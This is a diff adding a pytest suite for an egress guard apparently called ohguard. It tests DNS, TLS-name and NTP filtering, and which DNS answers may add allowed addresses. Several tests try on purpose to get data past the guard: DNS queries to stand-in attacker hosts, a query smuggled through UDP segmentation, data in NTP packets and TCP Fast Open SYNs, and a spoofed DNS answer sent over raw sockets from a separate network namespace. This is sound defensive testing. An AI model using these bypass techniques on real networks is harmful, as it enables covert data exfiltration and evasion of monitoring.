@@ -1,0 +1,497 @@
+"""Names judged in the kernel: what may be asked for, what a connection must open with, and what answers teach."""
+import json
+import os
+import socket
+import ssl
+import struct
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+
+from lab import ntp, topology
+
+BINARY = os.environ.get("OHGUARD", str(Path(__file__).resolve().parents[2] / "build/ohguard"))
+ALLOWED, ADDRESS = "api.openai.com", "203.0.113.10"
+CDN = "198.51.100.50"           # files.cdn.example and tenant.cdn.example
+CONF = """[guard]
+cgroup = {cgroup}
+[dns]
+resolver = 10.0.0.2
+name = asked.lab.example
+name = *.ask.lab.example
+{dns}
+[ntp]
+server = 169.254.169.123
+[allow]
+target = api.openai.com
+target = files.cdn.example
+target = plain.lab.example:80 sni=off
+target = 198.51.100.40
+"""
+
+
+class Guard:
+    def __init__(self, lab):
+        self.lab = lab
+
+    def ohguard(self, *args, guarded=False):
+        return self.lab.server.run([BINARY, *args], guarded=guarded)
+
+    def load(self, dns="", more=""):
+        text = CONF.format(cgroup=self.lab.cgroup, dns=dns) + more
+        self.lab.server.run(["sh", "-c", "mkdir -p /etc/ohguard && cat >/etc/ohguard/ohguard.conf"], input=text, check=True)
+        r = self.ohguard("load")
+        assert r.returncode == 0, r.stderr
+
+    def events(self):
+        """What was refused since the last call. Connections end: what one still has to send would be told later."""
+        self.lab.server.run(["ss", "-K", "-t", "dport", "=", "443", "or", "dport", "=", "53"], check=True)
+        r = self.ohguard("events", "--json")
+        assert r.returncode == 0, r.stderr
+        return [json.loads(line) for line in r.stdout.splitlines()]
+
+    def python(self, code, *args):
+        return self.lab.server.run(["/usr/bin/python3", "-c", code, *map(str, args)], guarded=True)
+
+
+@pytest.fixture
+def guard(lab):
+    lab.dns.add("asked.lab.example", "203.0.113.80")
+    lab.dns.add("deep.er.ask.lab.example", "203.0.113.81")
+    lab.dns.add("plain.lab.example", "203.0.113.82")
+    g = Guard(lab)
+    try:
+        g.load()
+        g.events()
+        yield g
+    finally:
+        g.events()
+        g.ohguard("unload", "--yes")
+        lab.server.run(["rm", "-rf", "/var/lib/ohguard"], check=True)
+
+
+def query(name, qtype=1, tail=b"", counts=(1, 0, 0, 0), flags=0x0100):
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p)
+    return struct.pack("!HH4H", 0x4242, flags, *counts) + labels + b"\0" + struct.pack("!HH", qtype, 1) + tail
+
+
+SEND = """
+import errno, socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+try:
+    s.sendto(bytes.fromhex(sys.argv[3]), (sys.argv[1], int(sys.argv[2])))
+    print("answered", len(s.recv(4096)))
+except OSError as e:
+    print(errno.errorcode.get(e.errno, "timeout"))
+"""
+
+
+@pytest.mark.parametrize("name", ["api.openai.com", "API.OpenAI.com", "asked.lab.example", "deep.er.ask.lab.example"])
+@pytest.mark.parametrize("tcp", [(), ("+tcp",)])
+def test_allowed_name_is_answered(guard, name, tcp):
+    r = guard.lab.server.run(["dig", "+time=3", "+tries=1", *tcp, "@10.0.0.2", name, "A"], guarded=True)
+    assert "status: NOERROR" in r.stdout and "203.0.113." in r.stdout, r.stdout
+    assert guard.events() == []
+
+
+@pytest.mark.parametrize("name", ["google.com", "c2VjcmV0.attacker.example", "openai.com", "evil-api.openai.com",
+                                  "x.api.openai.com", "ask.lab.example", ".", "10.113.0.203.in-addr.arpa"])
+@pytest.mark.parametrize("tcp", [(), ("+tcp",)])
+def test_other_name_never_leaves(guard, name, tcp):
+    mark = guard.lab.wire.mark()
+    r = guard.lab.server.run(["dig", "+time=1", "+tries=1", *tcp, "@10.0.0.2", name, "A"], guarded=True)
+    assert "status:" not in r.stdout
+    assert not [f for f in guard.lab.wire.traffic(mark) if b"".join(
+        bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\0\0\x01\0\x01" in bytes(f.payload)]
+    events = guard.events()
+    assert events and {(e["reason"], e["name"], e["destination_port"]) for e in events} == {("dns-name-not-allowed", name.lower(), 53)}
+
+
+def test_glibc_is_told_at_once(guard):
+    r = guard.python("import socket\ntry:\n    socket.getaddrinfo('google.com', 443)\nexcept socket.gaierror as e:\n    print('refused')")
+    assert r.stdout == "refused\n", r.stderr
+    assert {(e["reason"], e["name"]) for e in guard.events()} == {("dns-name-not-allowed", "google.com")}
+
+
+MALFORMED = {
+    "data behind": query(ALLOWED, tail=b"secret"),
+    "two questions": query(ALLOWED, counts=(2, 0, 0, 0), tail=b"\6secret\0\0\1\0\1"),
+    "a response": query(ALLOWED, flags=0x8100),
+    "an update": query(ALLOWED, flags=0x2800),
+    "not DNS": b"secret data for somebody else",
+}
+
+
+@pytest.mark.parametrize("what", MALFORMED)
+def test_malformed_query_is_refused(guard, what):
+    assert guard.python(SEND, "10.0.0.2", 53, MALFORMED[what].hex()).stdout == "EPERM\n"
+    assert [e["reason"] for e in guard.events()] == ["dns-malformed"]
+
+
+def test_segmented_datagram_is_refused(guard):
+    """UDP_SEGMENT would make the option's data a query of its own."""
+    smuggled = query("secret.attacker.example")
+    opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 4 + len(smuggled)) + struct.pack("!HH", 65001, len(smuggled))
+    head = query(ALLOWED, counts=(1, 0, 0, 1), tail=opt)
+    # padded so that the cut falls where the smuggled query begins
+    code = """
+import errno, socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setsockopt(17, 103, int(sys.argv[2]))
+try:
+    s.sendto(bytes.fromhex(sys.argv[1]), ("10.0.0.2", 53))
+    print("sent")
+except OSError as e:
+    print(errno.errorcode[e.errno])
+"""
+    mark = guard.lab.wire.mark()
+    r = guard.python(code, (head + smuggled).hex(), len(head))
+    assert r.stdout == "EPERM\n", r.stdout + r.stderr
+    assert not guard.lab.wire.traffic(mark)
+
+
+TCP_QUERIES = """
+import socket, struct, sys, time
+s = socket.create_connection(("10.0.0.2", 53), timeout=10)
+for part in sys.argv[2:]:
+    s.sendall(bytes.fromhex(part))
+    time.sleep(float(sys.argv[1]))
+got = b""
+try:
+    for _ in range(2):
+        n = struct.unpack("!H", s.recv(2, socket.MSG_WAITALL))[0]
+        got = s.recv(n, socket.MSG_WAITALL)
+        print("answered", got[2] >> 7)
+except OSError as e:
+    print(type(e).__name__)
+"""
+
+
+def frame(message):
+    return struct.pack("!H", len(message)) + message
+
+
+def test_tcp_queries_in_one_segment_and_in_pieces(guard):
+    both = frame(query(ALLOWED)) + frame(query(ALLOWED, 28))
+    assert guard.python(TCP_QUERIES, 0, both.hex()).stdout == "answered 1\n" * 2
+    pieces = [both[i:i + 7].hex() for i in range(0, len(both), 7)]
+    assert guard.python(TCP_QUERIES, 0.02, *pieces).stdout == "answered 1\n" * 2
+    assert guard.events() == []
+
+
+def test_second_tcp_query_is_judged_too(guard):
+    mark = guard.lab.wire.mark()
+    r = guard.python(TCP_QUERIES.replace("timeout=10", "timeout=2"), 0.2, frame(query(ALLOWED)).hex(),
+                     frame(query("secret.attacker.example")).hex())
+    assert r.stdout.startswith("answered 1\n") and r.stdout.count("answered") == 1, r.stdout + r.stderr
+    assert not [f for f in guard.lab.wire.traffic(mark) if b"secret" in bytes(f.payload)]
+    assert {(e["reason"], e["name"], e["command"]) for e in guard.events()} == {
+        ("dns-name-not-allowed", "secret.attacker.example", "python3")}
+
+
+def test_ntp_is_a_plain_request_only(guard):
+    server = topology.TIME[0]
+    assert guard.python(SEND, server, 123, ntp.request().hex()).stdout == "answered 48\n"
+    assert guard.events() == []
+    for bad in (ntp.request() + b"secret", b"\x23" + b"secret".ljust(47), b"\x16" + bytes(47), ntp.request()[:40]):
+        assert guard.python(SEND, server, 123, bad.hex()).stdout == "EPERM\n"
+        assert [e["reason"] for e in guard.events()] == ["ntp-malformed"]
+
+
+def test_allow_and_revoke_change_what_may_be_asked(guard):
+    def dig():
+        return "NOERROR" in guard.lab.server.run(["dig", "+time=1", "+tries=1", "google.com"], guarded=True).stdout
+
+    assert not dig()
+    r = guard.ohguard("allow", "google.com", guarded=True)      # from inside: its own queries are judged too
+    assert r.returncode == 0, r.stderr
+    assert dig()
+    assert guard.ohguard("revoke", "google.com").returncode == 0
+    assert not dig()
+
+
+def test_failed_allow_leaves_no_name_to_ask_for(guard):
+    assert guard.ohguard("allow", "missing.attacker.example", guarded=True).returncode == 1
+    guard.events()
+    guard.lab.server.run(["dig", "+time=1", "+tries=1", "missing.attacker.example"], guarded=True)
+    assert {e["reason"] for e in guard.events()} == {"dns-name-not-allowed"}
+
+
+# ---- the TLS name ----
+
+def curl(guard, name, address, *args, scheme="https", port=443):
+    return guard.lab.server.run(["curl", "-sS", "-m", "2", "--resolve", f"{name}:{port}:{address}", *args,
+                                 f"{scheme}://{name}:{port}/"], guarded=True)
+
+
+def payload(guard, mark, address):
+    return [f for f in guard.lab.wire.traffic(mark, dst=address) if bytes(f.payload)]
+
+
+@pytest.mark.parametrize("args", [(), ("--tlsv1.3",), ("--tls-max", "1.2"), ("--http1.1",)])
+def test_allowed_server_name_connects(guard, args):
+    assert curl(guard, ALLOWED, ADDRESS, *args).returncode == 0
+    assert guard.events() == []
+
+
+@pytest.mark.parametrize("name,reason", [("tenant.cdn.example", "tls-name-not-allowed"), ("xapi.openai.com", "tls-name-not-allowed")])
+def test_other_server_name_sends_nothing(guard, name, reason):
+    mark = guard.lab.wire.mark()
+    assert curl(guard, name, CDN, "-k").returncode == 28
+    assert not payload(guard, mark, CDN)
+    events = guard.events()
+    assert {(e["reason"], e["name"]) for e in events} == {(reason, name)}
+
+
+def test_no_name_and_not_tls_send_nothing(guard):
+    mark = guard.lab.wire.mark()
+    assert curl(guard, CDN, CDN, "-k").returncode == 28
+    assert {(e["reason"], e["name"]) for e in guard.events()} == {("tls-no-name", None)}
+    assert curl(guard, ALLOWED, ADDRESS, scheme="http").returncode == 28
+    assert {e["reason"] for e in guard.events()} == {"tls-not-tls"}
+    assert not payload(guard, mark, CDN) and not payload(guard, mark, ADDRESS)
+
+
+def test_addresses_and_sni_off_have_no_name_rule(guard):
+    assert curl(guard, "example.com", "198.51.100.40").returncode == 0
+    assert curl(guard, "plain.lab.example", "203.0.113.82", scheme="http", port=80).returncode == 0
+    assert guard.events() == []
+
+
+def hello(name, size=0):
+    """A real hello, by OpenSSL; padded to a post-quantum one's size by protocols on offer."""
+    context = ssl.create_default_context()
+    if size:
+        context.set_alpn_protocols([f"{i:03}".ljust(200, "x") for i in range(size // 201)])
+    outgoing = ssl.MemoryBIO()
+    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
+    with pytest.raises(ssl.SSLWantReadError):
+        tls.do_handshake()
+    return outgoing.read()
+
+
+PIECES = """
+import socket, sys, time
+s = socket.create_connection((sys.argv[1], 443), timeout=5)
+s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+data, step = sys.stdin.buffer.read(), int(sys.argv[2])
+for i in range(0, len(data), step):
+    s.sendall(data[i:i + step])
+    time.sleep(float(sys.argv[3]))
+try:
+    print(s.recv(1)[0])
+except OSError as e:
+    print(type(e).__name__)
+"""
+
+
+def pieces(guard, data, step, pause, address=ADDRESS):
+    r = subprocess.run(guard.lab.server.command(["/usr/bin/python3", "-c", PIECES, address, str(step), str(pause)], True),
+                       env=guard.lab.server.environment(), input=data, capture_output=True, timeout=60)
+    return r.stdout.decode()
+
+
+@pytest.mark.parametrize("size,step,pause", [(0, 1, 0), (0, 100, 0.05), (1500, 700, 0.2), (4000, 1000, 0.1), (0, 5, 0.01)])
+def test_split_hello_is_held_until_whole(guard, size, step, pause):
+    """22 or 21: the server answers with a handshake or an alert, so it got the hello."""
+    mark = guard.lab.wire.mark()
+    data = hello(ALLOWED, size)
+    assert pieces(guard, data, step, pause) in ("22\n", "21\n")
+    assert bytes(payload(guard, mark, ADDRESS)[0].payload)[:64] == data[:64]
+    assert guard.events() == []
+
+
+def test_split_hello_with_another_name_sends_nothing(guard):
+    mark = guard.lab.wire.mark()
+    assert pieces(guard, hello("secret.attacker.example", 1500), 400, 0.05) == "TimeoutError\n"
+    assert not payload(guard, mark, ADDRESS)
+    assert {e["reason"] for e in guard.events()} == {"tls-name-not-allowed"}
+
+
+def test_data_in_the_syn_is_refused(guard):
+    code = """
+import socket, sys
+s = socket.socket()
+s.settimeout(3)
+s.setsockopt(socket.IPPROTO_TCP, 34, 1)    # TCP_FASTOPEN_NO_COOKIE
+try:
+    s.sendto(b"secret in the SYN", 0x20000000, (sys.argv[1], 443))
+    s.recv(1)
+except OSError as e:
+    print(type(e).__name__)
+"""
+    mark = guard.lab.wire.mark()
+    guard.python(code, ADDRESS)
+    assert not payload(guard, mark, ADDRESS)
+    assert {e["reason"] for e in guard.events()} == {"tls-in-syn", "tls-not-tls"}
+
+
+def test_revoked_name_cuts_the_connection_that_gave_it(guard):
+    """The address is also another target's, which lives on."""
+    assert guard.ohguard("allow", "tenant.cdn.example").returncode == 0
+    code = """
+import socket, ssl, sys
+c = ssl.create_default_context()
+c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
+s = c.wrap_socket(socket.create_connection((sys.argv[1], 443), timeout=4), server_hostname="tenant.cdn.example")
+print("connected", flush=True)
+sys.stdin.readline()
+s.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
+try:
+    print(s.recv(4))
+except OSError as e:
+    print(type(e).__name__)
+"""
+    p = guard.lab.server.popen(["/usr/bin/python3", "-c", code, CDN], guarded=True, stdin=subprocess.PIPE,
+                               stdout=subprocess.PIPE, text=True)
+    try:
+        assert p.stdout.readline() == "connected\n"
+        assert guard.ohguard("revoke", "tenant.cdn.example").returncode == 0
+        mark = guard.lab.wire.mark()
+        p.stdin.write("\n")
+        p.stdin.close()
+        assert p.stdout.read() == "TimeoutError\n"
+        assert not payload(guard, mark, CDN)
+    finally:
+        p.kill()
+        p.wait()
+
+
+# ---- answers ----
+
+POOL = """
+import socket, sys
+failed = 0
+for i in range(int(sys.argv[2])):
+    try:
+        a = socket.getaddrinfo(sys.argv[1], 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
+        socket.create_connection(a, timeout=5).close()
+    except OSError as e:
+        failed += 1
+        print(i, a, e)
+print("failed", failed)
+"""
+
+
+def target(guard, name):
+    r = guard.ohguard("list", "--json")
+    assert r.returncode == 0, r.stderr
+    return next(t for t in json.loads(r.stdout) if t["target"] == name)
+
+
+def learned(guard, name):
+    return {a["address"] for a in target(guard, name)["addresses"] if a["learned"] == "answer"}
+
+
+def test_rotating_pool_is_never_refused(guard):
+    guard.lab.dns.script("pool.lab.example", "rotate")
+    assert guard.ohguard("allow", "pool.lab.example").returncode == 0
+    guard.events()
+    assert guard.python(POOL, "pool.lab.example", 300).stdout == "failed 0\n"
+    r = guard.lab.server.run(["curl", "-sS", "-4", "https://pool.lab.example/"], guarded=True)
+    assert r.returncode == 0, r.stderr
+    assert guard.events() == []
+    assert len(learned(guard, "pool.lab.example")) >= 199
+
+
+def test_learned_address_lives_for_its_ttl_and_grace(guard):
+    guard.load(dns="min-ttl = 1s\nmax-ttl = 40s\ngrace = 20s")
+    guard.lab.dns.script("pool.lab.example", "rotate", ttl=3600)
+    assert guard.ohguard("allow", "pool.lab.example").returncode == 0
+    assert guard.python(POOL, "pool.lab.example", 3).stdout == "failed 0\n"
+    left = [a["seconds_left"] for a in target(guard, "pool.lab.example")["addresses"] if a["learned"] == "answer"]
+    assert len(left) >= 3 and all(30 < s <= 60 for s in left)
+
+
+def test_suffix_covers_any_depth_and_its_names_alone(guard):
+    guard.lab.dns.add("one.sub.lab.example", "203.0.113.90")
+    guard.lab.dns.add("a.b.c.sub.lab.example", "203.0.113.91")
+    assert guard.ohguard("allow", "*.sub.lab.example").returncode == 0
+    for name in ("one.sub.lab.example", "a.b.c.sub.lab.example"):
+        r = guard.lab.server.run(["curl", "-ksS", "-m", "4", f"https://{name}/"], guarded=True)
+        assert r.returncode == 0, r.stderr
+    assert guard.events() == []
+    assert guard.lab.server.run(["curl", "-ksS", "-m", "2", "https://sub.lab.example/"], guarded=True).returncode == 6
+    assert learned(guard, "*.sub.lab.example") == {"203.0.113.90", "203.0.113.91"}
+    assert guard.ohguard("revoke", "*.sub.lab.example").returncode == 0
+    r = guard.lab.server.run(["curl", "-ksS", "-m", "2", "--resolve", "one.sub.lab.example:443:203.0.113.90",
+                              "https://one.sub.lab.example/"], guarded=True)
+    assert r.returncode == 7
+
+
+@pytest.mark.parametrize("suffix", ["*.com", "*.co.uk", "*.github.io", "*.s3.amazonaws.com"])
+def test_public_suffix_is_refused(guard, suffix):
+    r = guard.ohguard("allow", suffix)
+    assert r.returncode == 1 and "anyone can have a name" in r.stderr, r.stderr
+
+
+@pytest.mark.parametrize("kind,settings", [
+    ("answer", {"a": ["10.9.9.9"]}), ("answer", {"a": ["127.0.0.1"]}), ("answer", {"a": ["169.254.169.254"]}),
+    ("answer", {"a": ["224.0.0.5"]}), ("wrong_name", {"a": ["192.0.2.77"]}), ("wrong_id", {"a": ["192.0.2.77"]}),
+    ("wrong_question", {"a": ["192.0.2.77"]}), ("cut", {"a": ["192.0.2.77"]})])
+def test_answer_that_may_not_teach_teaches_nothing(guard, kind, settings):
+    guard.lab.dns.script("liar.sub.lab.example", kind, **settings)
+    assert guard.ohguard("allow", "*.sub.lab.example").returncode == 0
+    assert guard.python(SEND, "10.0.0.2", 53, query("liar.sub.lab.example").hex()).stdout.startswith("answered")
+    assert learned(guard, "*.sub.lab.example") == set()
+    guard.lab.dns.script("liar.sub.lab.example", "answer", a=["192.0.2.78"])        # the same way, a good one
+    guard.python(SEND, "10.0.0.2", 53, query("liar.sub.lab.example").hex())
+    assert learned(guard, "*.sub.lab.example") == {"192.0.2.78"}
+
+
+def test_name_that_may_only_be_asked_for_teaches_nothing(guard):
+    guard.lab.server.run(["dig", "+time=1", "@10.0.0.2", "asked.lab.example"], guarded=True)
+    assert curl(guard, "asked.lab.example", "203.0.113.80", "-k").returncode == 7
+    assert {e["reason"] for e in guard.events()} == {"address-not-allowed"}
+
+
+# Answers its own query for argv[1], from the resolver's address in a second namespace.
+FORGE = r"""
+import ctypes, os, signal, socket, struct, subprocess, sys
+def ip(*words):
+    subprocess.run(["ip", *words], check=True)
+here, child = os.pipe(), os.pipe()
+pid = os.fork()
+if not pid:
+    assert not ctypes.CDLL(None).unshare(0x40000000)
+    os.write(here[1], b"x")
+    os.close(child[1])
+    assert os.read(child[0], 1)
+    ip("addr", "add", "10.0.0.2/24", "dev", "theirs")
+    ip("link", "set", "theirs", "up")
+    signal.alarm(10)
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))      # no socket hook sees that one
+    s.bind(("theirs", 0x0800))
+    os.write(here[1], b"x")
+    f = s.recv(2000)
+    q = f[42:]
+    answer = (q[:2] + bytes.fromhex("81800001000100000000") + q[12:] + bytes.fromhex("c00c00010001000001000004") +
+              socket.inet_aton("203.0.113.66"))
+    head = bytes([0x45, 0]) + struct.pack("!H", 28 + len(answer)) + bytes(4) + bytes([64, 17, 0, 0]) + f[30:34] + f[26:30]
+    total = sum(struct.unpack("!10H", head))
+    total = (total & 0xffff) + (total >> 16)
+    head = head[:10] + struct.pack("!H", 0xffff - (total & 0xffff) - (total >> 16)) + head[12:]
+    s.send(f[6:12] + f[:6] + f[12:14] + head + f[36:38] + f[34:36] + struct.pack("!HH", 8 + len(answer), 0) + answer)
+    os._exit(0)
+os.close(here[1])
+os.read(here[0], 1)
+ip("link", "add", "ours", "type", "veth", "peer", "name", "theirs", "netns", str(pid))
+ip("addr", "add", "10.0.0.7/24", "dev", "ours")
+ip("link", "set", "ours", "up")
+os.write(child[1], b"x")
+os.read(here[0], 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(8)
+s.sendto(bytes.fromhex(sys.argv[1]), ("10.0.0.2", 53))
+print("answered", len(s.recv(512)))
+"""
+
+
+def test_answer_in_a_namespace_of_the_workloads_own_teaches_nothing(guard):
+    """Whoever can make a network namespace could otherwise be its own resolver, and let any address in."""
+    r = guard.lab.server.run(["unshare", "-n", "/usr/bin/python3", "-c", FORGE, query(ALLOWED).hex()], guarded=True)
+    assert r.stdout == "answered 48\n", r.stdout + r.stderr
+    assert learned(guard, ALLOWED) == set()
